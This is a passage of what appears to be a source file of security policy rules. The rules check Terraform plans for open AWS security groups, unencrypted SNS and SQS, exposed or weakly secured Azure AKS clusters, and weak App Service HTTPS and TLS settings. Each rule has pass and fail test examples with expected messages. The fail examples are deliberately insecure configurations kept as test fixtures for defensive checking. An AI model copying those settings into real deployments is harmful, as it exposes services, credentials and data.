               "after": {"ingress": [
                 ↓{"cidr_blocks": [], "ipv6_cidr_blocks": ["::/0"], "from_port": 0, "to_port": 65535, "protocol": "tcp"}]}}}]}
        """ expect "'aws_security_group.bastion' opens port 22, 3389 to the internet"
        example fail "separate rule resources" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group_rule.all", "mode": "managed", "type": "aws_security_group_rule", "name": "all",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
               "after": ↓{"type": "ingress", "cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": null, "from_port": 0, "to_port": 0, "protocol": "-1"}}},
            {"address": "aws_vpc_security_group_ingress_rule.rdp", "mode": "managed", "type": "aws_vpc_security_group_ingress_rule", "name": "rdp",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
               "after": ↓{"cidr_ipv4": "0.0.0.0/0", "cidr_ipv6": null, "from_port": 3389, "to_port": 3389, "ip_protocol": "tcp"}}}]}
        """ expect "'aws_security_group_rule.all' opens port 22, 3389 to the internet"
            expect "'aws_vpc_security_group_ingress_rule.rdp' opens port 3389 to the internet"
        example indeterminate "CIDR known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.x", "mode": "managed", "type": "aws_security_group", "name": "x",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"ingress": [{"cidr_blocks": [null], "ipv6_cidr_blocks": [], "from_port": 22, "to_port": 22}]},
               "after_unknown": {"ingress": [{"cidr_blocks": [true], "ipv6_cidr_blocks": []}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/security_group_all_ports_open.plumb",
      text: #"""
      rule security_group_all_ports_open {
        title "Security groups do not open every port to the internet"
        severity critical
        category security
        tags [terraform, aws, network]
        rationale """
          An ingress rule for all protocols (`-1`) or the whole port range from 0.0.0.0/0 or ::/0 exposes
          every service on the instances behind the group (databases, caches, admin consoles, debug
          ports) to the internet, including ones started later that nobody meant to publish.
        """
        remediation """
          Open only the ports the service answers on (for example 443), and restrict the CIDR blocks of
          anything else to internal ranges or to other security groups.
        """

        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule")
        when not is_null(sg.after)
        let inline_unset = exists(sg.provider.key) and not exists(sg.config.ingress) and is_unknown(sg.after.ingress)
        let rules = flatten([
          flatten(filter(x in [sg.after.ingress], not inline_unset and exists(x))),
          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "ingress"),
          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_ingress_rule")])
        let open = filter(r in rules,
          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
          and (r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= 1 and r.to_port >= 65535)))
        require count(open) == 0
          else "'${sg.address}' opens all ports to the internet (protocol '${default(first(open).protocol, first(open).ip_protocol)}', ports ${default(first(open).from_port, 0)}-${default(first(open).to_port, 65535)})" at first(open)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.web", "mode": "managed", "type": "aws_security_group", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"ingress": [
                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.bad", "mode": "managed", "type": "aws_security_group", "name": "bad",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"egress": true},
               "after": {"ingress": [
                 ↓{"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}},
            {"address": "aws_vpc_security_group_ingress_rule.any", "mode": "managed", "type": "aws_vpc_security_group_ingress_rule", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
               "after": ↓{"cidr_ipv4": null, "cidr_ipv6": "::/0", "from_port": null, "to_port": null, "ip_protocol": "-1"}}}]}
        """ expect "'aws_security_group.bad' opens all ports to the internet (protocol '-1', ports 0-0)"
            expect "'aws_vpc_security_group_ingress_rule.any' opens all ports"
        example indeterminate "CIDR known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group_rule.x", "mode": "managed", "type": "aws_security_group_rule", "name": "x",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"type": "ingress", "cidr_blocks": [null], "from_port": 0, "to_port": 65535, "protocol": "tcp"},
               "after_unknown": {"cidr_blocks": [true]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/security_group_egress_open.plumb",
      text: #"""
      rule security_group_egress_open {
        title "Security groups do not allow all egress to the internet"
        severity low
        category security
        tags [terraform, aws, network]
        rationale """
          Egress to 0.0.0.0/0 or ::/0 on every port is what malware and an attacker with a foothold need
          to download tools, reach command-and-control servers and exfiltrate data. Most workloads only
          talk to a few endpoints (HTTPS to AWS APIs through VPC endpoints, a database, a proxy).
        """
        remediation """
          Limit egress rules to the ports and destinations the workload uses (for example 443 to a
          proxy or a prefix list of VPC endpoints, the database port to the database's security group).
        """

        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_egress_rule")
        when not is_null(sg.after)
        # Terraform removes AWS's default allow-all egress rule from the groups it creates: egress that
        # the configuration does not write is empty.
        let inline_unset = exists(sg.provider.key) and not exists(sg.config.egress) and is_unknown(sg.after.egress)
        let rules = flatten([
          flatten(filter(x in [sg.after.egress], not inline_unset and exists(x))),
          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "egress"),
          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_egress_rule")])
        let open = filter(r in rules,
          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
          and (r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= 1 and r.to_port >= 65535)))
        require count(open) == 0
          else "'${sg.address}' allows all egress to the internet" at first(open)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.app", "mode": "managed", "type": "aws_security_group", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"ingress": [], "egress": [
                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_security_group.app", "mode": "managed", "type": "aws_security_group", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"ingress": [], "egress": [
                 ↓{"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}},
            {"address": "aws_security_group_rule.egress", "mode": "managed", "type": "aws_security_group_rule", "name": "egress",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
               "after": ↓{"type": "egress", "cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": null, "from_port": 0, "to_port": 65535, "protocol": "tcp"}}}]}
        """ expect "'aws_security_group.app' allows all egress to the internet" expect "'aws_security_group_rule.egress' allows all egress"
        example indeterminate "CIDR known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_vpc_security_group_egress_rule.x", "mode": "managed", "type": "aws_vpc_security_group_egress_rule", "name": "x",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"cidr_ipv6": null, "ip_protocol": "-1"}, "after_unknown": {"cidr_ipv4": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/sns_topic_not_encrypted.plumb",
      text: #"""
      rule sns_topic_not_encrypted {
        title "SNS topics encrypt messages with KMS"
        severity medium
        category security
        tags [terraform, aws, sns, encryption, kms]
        rationale """
          SNS does not encrypt messages at rest unless the topic has a KMS key: notifications about
          orders, alerts carrying hostnames and error payloads, and fan-out events with personal data are
          stored in clear text until delivered.
        """
        remediation "Set `kms_master_key_id` to a customer managed KMS key (or `alias/aws/sns` for the AWS-managed key)."

        for t in terraform.resource("aws_sns_topic")
        when not is_null(t.after)
        let key_ref = any(x in t.config.kms_master_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
        # Computed when the configuration does not set it: the topic is then unencrypted.
        let unset = exists(t.provider.key) and not exists(t.config.kms_master_key_id) and is_unknown(t.after.kms_master_key_id)
        require key_ref or (not unset and not is_empty(t.after.kms_master_key_id))
          else "'${t.address}' does not set kms_master_key_id, so its messages are not encrypted at rest" at t.address

        example pass """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "alerts", "kms_master_key_id": "alias/aws/sns"}}},
            {"address": "aws_sns_topic.orders", "mode": "managed", "type": "aws_sns_topic", "name": "orders",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "kms_master_key_id": true},
               "after": {"name": "orders"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_sns_topic.orders", "mode": "managed", "type": "aws_sns_topic", "name": "orders", "provider_config_key": "aws",
             "expressions": {"kms_master_key_id": {"references": ["aws_kms_key.orders.id", "aws_kms_key.orders"]}}}]}}}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": ↓"aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
               "after": {"name": "alerts", "kms_master_key_id": null}}}]}
        """ expect "'aws_sns_topic.alerts' does not set kms_master_key_id"
        example indeterminate "key from a variable, known after apply" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_master_key_id": true}, "after": {"name": "alerts"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts", "provider_config_key": "aws",
             "expressions": {"kms_master_key_id": {"references": ["var.kms_key_id"]}}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/sqs_queue_not_encrypted.plumb",
      text: #"""
      rule sqs_queue_not_encrypted {
        title "SQS queues encrypt messages at rest"
        severity medium
        category security
        tags [terraform, aws, sqs, encryption]
        rationale """
          `sqs_managed_sse_enabled = false` without a `kms_master_key_id` stores messages (often orders,
          events with personal data, job payloads with credentials) unencrypted at rest. New queues are
          encrypted with SQS-managed keys by default; this finding means the configuration turned it off.
        """
        remediation "Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` to a KMS key for SSE-KMS."

        for q in terraform.resource("aws_sqs_queue")
        when not is_null(q.after)
        # A key from a KMS key or alias resource is set even when its ARN is known only after apply.
        let key_ref = any(x in q.config.kms_master_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
        # Computed when the configuration does not set it: new queues get SSE-SQS by default.
        let sse_unset = exists(q.provider.key) and not exists(q.config.sqs_managed_sse_enabled) and is_unknown(q.after.sqs_managed_sse_enabled)
        require sse_unset or q.after.sqs_managed_sse_enabled != false or key_ref or not is_empty(q.after.kms_master_key_id)
          else "'${q.address}' stores messages unencrypted (sqs_managed_sse_enabled = false, no kms_master_key_id)" at q.after.sqs_managed_sse_enabled
          fix { set q.after.sqs_managed_sse_enabled = true }

        example pass """
          {"format_version": "1.2",
           "configuration": {"root_module": {"resources": [
            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs", "provider_config_key": "aws",
             "expressions": {"name": {"constant_value": "jobs"}}}]}},
           "resource_changes": [
            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"sqs_managed_sse_enabled": true},
               "after": {"name": "jobs", "kms_master_key_id": null}}},
            {"address": "aws_sqs_queue.orders", "mode": "managed", "type": "aws_sqs_queue", "name": "orders",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"name": "orders", "sqs_managed_sse_enabled": false, "kms_master_key_id": "alias/orders"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"name": "jobs", "sqs_managed_sse_enabled": ↓false, "kms_master_key_id": null}}}]}
        """ expect "'aws_sqs_queue.jobs' stores messages unencrypted"
        example indeterminate "key from a variable, known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_master_key_id": true},
               "after": {"name": "jobs", "sqs_managed_sse_enabled": false}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_aks_api_server_unrestricted.plumb",
      text: #"""
      rule azure_aks_api_server_unrestricted {
        title "AKS API servers are private or limited to authorized IP ranges"
        severity high
        category security
        tags [terraform, azure, aks, kubernetes, network]
        rationale """
          A public AKS cluster without authorized IP ranges answers on its Kubernetes API from every
          address on the internet. The API server is the cluster's control plane: leaked kubeconfigs,
          tokens from a compromised pod or CI job, and any authentication or API-server vulnerability
          can then be used from anywhere. Authorized IP ranges (or a private cluster) reduce that to the
          networks you operate from.
        """
        remediation """
          Add `api_server_access_profile { authorized_ip_ranges = ["<office/VPN/CI CIDRs>"] }` to the
          `azurerm_kubernetes_cluster` (azurerm 2.x/3.x: `api_server_authorized_ip_ranges`), or set
          `private_cluster_enabled = true` and reach the API through the VNet.
        """
        param open_ranges: list<string> = ["0.0.0.0/0", "0.0.0.0/1", "128.0.0.0/1", "*"]

        for c in terraform.resource("azurerm_kubernetes_cluster")
        when not is_null(c.after)
        when c.after.private_cluster_enabled != true and c.after.public_network_access_enabled != false
        # Both are computed when not written in the configuration; then they hold no ranges.
        let profile = c.after.api_server_access_profile
        let profile_unset = is_unknown(profile) and exists(c.config) and not exists(c.config.api_server_access_profile)
        let legacy = c.after.api_server_authorized_ip_ranges
        let legacy_unset = is_unknown(legacy) and exists(c.config) and not exists(c.config.api_server_authorized_ip_ranges)
        require (not profile_unset and not is_empty(first(profile).authorized_ip_ranges)) or (not legacy_unset and not is_empty(legacy))
          else "'${c.address}' exposes its Kubernetes API server to the whole internet: no authorized IP ranges and private_cluster_enabled is not true"
          at c.after.private_cluster_enabled
        require (profile_unset or none(x in first(profile).authorized_ip_ranges, trim(x) in param.open_ranges))
            and (legacy_unset or none(x in legacy, trim(x) in param.open_ranges))
          else "'${c.address}' authorizes the whole internet to reach its Kubernetes API server (authorized IP range ${first(filter(x in flatten([default(first(profile).authorized_ip_ranges, []), default(legacy, [])]), trim(x) in param.open_ranges))})"
          at first(filter(x in flatten([default(first(profile).authorized_ip_ranges, []), default(legacy, [])]), known(x) and trim(x) in param.open_ranges))

        example pass "authorized ranges" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "private_cluster_enabled": false,
                         "api_server_access_profile": [{"authorized_ip_ranges": ["198.51.100.0/24"]}]}}}]}
        """
        example pass "private cluster" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true, "api_server_authorized_ip_ranges": true},
               "after": {"name": "acme-aks", "private_cluster_enabled": true, "api_server_access_profile": []}}}]}
        """
        example fail "public API, nothing restricted" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after_unknown": {"id": true, "kube_config": true, "api_server_access_profile": true, "api_server_authorized_ip_ranges": true},
               "after": {"name": "acme-aks", "private_cluster_enabled": ↓false, "public_network_access_enabled": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "expressions": {"name": {"constant_value": "acme-aks"}}}]}}}
        """ expect "'azurerm_kubernetes_cluster.main' exposes its Kubernetes API server to the whole internet"
        example fail "whole internet authorized" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "private_cluster_enabled": false,
                         "api_server_access_profile": [{"authorized_ip_ranges": ["198.51.100.0/24", ↓"0.0.0.0/0"]}]}}}]}
        """ expect "authorizes the whole internet to reach its Kubernetes API server (authorized IP range 0.0.0.0/0)"
        example indeterminate "ranges known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-aks", "private_cluster_enabled": false, "api_server_access_profile": [{}]},
               "after_unknown": {"id": true, "kube_config": true, "api_server_access_profile": [{"authorized_ip_ranges": true}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_aks_local_accounts_enabled.plumb",
      text: #"""
      rule azure_aks_local_accounts_enabled {
        title "AKS clusters disable local accounts"
        severity medium
        category security
        tags [terraform, azure, aks, kubernetes, iam]
        rationale """
          With local accounts enabled, `az aks get-credentials --admin` hands out a static cluster-admin
          certificate to anyone with the "cluster admin credential" action. That credential bypasses
          Entra ID, conditional access and MFA, is not tied to a person, and stays valid until the
          cluster certificates are rotated, so a copy taken by a departing employee or a compromised
          laptop keeps working.
        """
        remediation """
          Configure `azure_active_directory_role_based_access_control { … }` and set
          `local_account_disabled = true` on the `azurerm_kubernetes_cluster`; use Entra ID groups (with
          a break-glass group) for administrators.
        """

        for c in terraform.resource("azurerm_kubernetes_cluster")
        when not is_null(c.after)
        require default(c.after.local_account_disabled, false) == true
          else "'${c.address}' keeps its local cluster-admin account: local_account_disabled is not true"
          at c.after.local_account_disabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "local_account_disabled": true,
                         "azure_active_directory_role_based_access_control": [{"azure_rbac_enabled": true}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "local_account_disabled": ↓false}}}]}
        """ expect "'azurerm_kubernetes_cluster.main' keeps its local cluster-admin account"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-aks"}, "after_unknown": {"id": true, "kube_config": true, "local_account_disabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_aks_rbac_disabled.plumb",
      text: #"""
      rule azure_aks_rbac_disabled {
        title "AKS clusters have Kubernetes RBAC enabled"
        severity high
        category security
        tags [terraform, azure, aks, kubernetes, iam]
        rationale """
          Without Kubernetes RBAC every authenticated identity (each user, each service account token
          mounted in a pod) is effectively cluster-admin: a single compromised workload can read every
          secret and take over every node. RBAC cannot be turned on for an existing cluster without
          recreating it, so it has to be right at creation.
        """
        remediation """
          Remove `role_based_access_control_enabled = false` from the `azurerm_kubernetes_cluster` (it
          defaults to true; azurerm 2.x: `role_based_access_control { enabled = true }`), ideally with
          `azure_active_directory_role_based_access_control` so access follows Entra ID groups.
        """

        for c in terraform.resource("azurerm_kubernetes_cluster")
        when not is_null(c.after)
        require c.after.role_based_access_control_enabled != false
          else "'${c.address}' has Kubernetes RBAC disabled (role_based_access_control_enabled = false)"
          at c.after.role_based_access_control_enabled
        # azurerm 2.x: a computed block, enabled by the service when it is not written.
        let legacy = c.after.role_based_access_control
        let legacy_unset = is_unknown(legacy) and exists(c.config) and not exists(c.config.role_based_access_control)
        require legacy_unset or first(legacy).enabled != false
          else "'${c.address}' has Kubernetes RBAC disabled (role_based_access_control.enabled = false)"
          at first(legacy).enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "role_based_access_control_enabled": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "role_based_access_control_enabled": ↓false}}}]}
        """ expect "'azurerm_kubernetes_cluster.main' has Kubernetes RBAC disabled (role_based_access_control_enabled = false)"
        example fail "azurerm 2.x block" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
               "after": {"name": "acme-aks", "role_based_access_control": [{"enabled": ↓false, "azure_active_directory": []}]}}}]}
        """ expect "(role_based_access_control.enabled = false)"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-aks"}, "after_unknown": {"id": true, "kube_config": true, "role_based_access_control_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_app_service_https_only_disabled.plumb",
      text: #"""
      rule azure_app_service_https_only_disabled {
        title "App Service and Function apps redirect HTTP to HTTPS"
        severity medium
        category security
        tags [terraform, azure, app-service, "encryption-in-transit"]
        rationale """
          `https_only` defaults to false: the app then also serves plain HTTP, so session cookies,
          bearer tokens and form posts of any link or client that uses `http://` cross the network in
          clear text and can be read or rewritten (SSL stripping) by anyone on the path. With
          `https_only = true` App Service redirects every HTTP request to HTTPS before the app sees it.
        """
        remediation "Set `https_only = true` on the web or function app (and on each deployment slot)."

        for a in terraform.resource("azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot",
          "azurerm_linux_function_app", "azurerm_windows_function_app", "azurerm_linux_function_app_slot", "azurerm_windows_function_app_slot",
          "azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_function_app_slot")
        when not is_null(a.after)
        require a.after.https_only != false
          else "'${a.address}' serves plain HTTP (https_only = false)"
          at a.after.https_only

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
               "after": {"name": "acme-api", "https_only": true, "site_config": [{"minimum_tls_version": "1.2"}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_windows_function_app.jobs", "mode": "managed", "type": "azurerm_windows_function_app", "name": "jobs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
               "after": {"name": "acme-jobs", "https_only": ↓false, "site_config": [{"minimum_tls_version": "1.2"}]}}}]}
        """ expect "'azurerm_windows_function_app.jobs' serves plain HTTP (https_only = false)"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-legacy"}, "after_unknown": {"id": true, "default_site_hostname": true, "https_only": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_app_service_min_tls_below_1_2.plumb",
      text: #"""
      rule azure_app_service_min_tls_below_1_2 {
        title "App Service and Function apps require TLS 1.2 or later"
        severity medium
        category security
        tags [terraform, azure, app-service, tls]
        rationale """
          A minimum TLS version of 1.0 or 1.1 on the app (or on its Kudu/SCM deployment endpoint) lets
          clients, and attackers downgrading the handshake, protect cookies, tokens and deployment
          credentials with protocol versions that have known weaknesses and are no longer accepted by
          PCI DSS or Microsoft's baseline.
        """
        remediation """
          Set `site_config { minimum_tls_version = "1.2" }` (and `scm_minimum_tls_version = "1.2"`) on the
          web or function app; the legacy `azurerm_app_service`/`azurerm_function_app` call it
          `min_tls_version`.
        """
        param weak_versions: list<string> = ["1.0", "1.1"]
        param attributes: list<string> = ["minimum_tls_version", "scm_minimum_tls_version", "min_tls_version"]

        for a in terraform.resource("azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot",
          "azurerm_linux_function_app", "azurerm_windows_function_app", "azurerm_linux_function_app_slot", "azurerm_windows_function_app_slot",
          "azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_function_app_slot")
        when not is_null(a.after)
        # site_config and its TLS settings are computed (defaulting to 1.2) when they are not written.
        let sc = a.after.site_config
        let sc_unset = is_unknown(sc) and exists(a.config) and not exists(a.config.site_config)
        let weak = filter(k in param.attributes,
          not (is_unknown(first(sc)[k]) and exists(a.config) and not exists(first(a.config.site_config)[k]))
          and first(sc)[k] in param.weak_versions)
        require sc_unset or count(weak) == 0
          else "'${a.address}' accepts TLS ${first(sc)[first(weak)]} (site_config.${first(weak)}); 1.2 is the minimum"
          at first(sc)[first(weak)]

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
               "after": {"name": "acme-api", "https_only": true,
                         "site_config": [{"minimum_tls_version": "1.2", "scm_minimum_tls_version": "1.2"}]}}}]}
        """
        example pass "legacy app service without site_config" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
